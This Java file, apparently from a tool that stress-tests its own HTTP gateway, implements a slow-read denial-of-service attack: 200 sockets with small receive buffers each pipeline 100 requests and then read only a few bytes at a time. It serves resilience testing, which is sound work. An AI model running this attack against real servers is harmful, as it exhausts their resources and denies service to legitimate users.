package dev.coatcheck.cli.hostile.attack;

import dev.coatcheck.cli.hostile.wire.Http1;
import java.io.IOException;
import java.net.Socket;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;

/** 200 connections that ask for a page 100 times, and read some bytes of it now and then. */
final class SlowReads implements Attack {

  private static final int CONNECTIONS = 200;
  private static final int REQUESTS = 100;
  private static final int RECEIVE_BUFFER_BYTES = 2048;
  private static final int READ_BYTES = 64;
  private static final int PAUSE_MILLIS = 100;

  @Override
  public String name() {
    return "slow reads";
  }

  @Override
  public Set<Door> doors() {
    return Set.of(Door.GATEWAY_HTTP);
  }

  @Override
  public void strike(Attacker attacker) throws IOException, InterruptedException {
    String requests = "GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(REQUESTS);
    List<Socket> sockets = new ArrayList<>();
    for (int i = 0; i < CONNECTIONS; i++) {
      Socket socket = attacker.connect(RECEIVE_BUFFER_BYTES);
      Http1.send(socket, requests);
      sockets.add(socket);
    }
    byte[] few = new byte[READ_BYTES];
    while (!attacker.isOver()) {
      for (Socket socket : List.copyOf(sockets)) {
        try {
          if (socket.getInputStream().available() > 0 && socket.getInputStream().read(few) < 0) {
            sockets.remove(socket);
          }
        } catch (IOException e) {
          sockets.remove(socket); // the server does not wait for ever
        }
      }
      Thread.sleep(PAUSE_MILLIS);
    }
  }
}
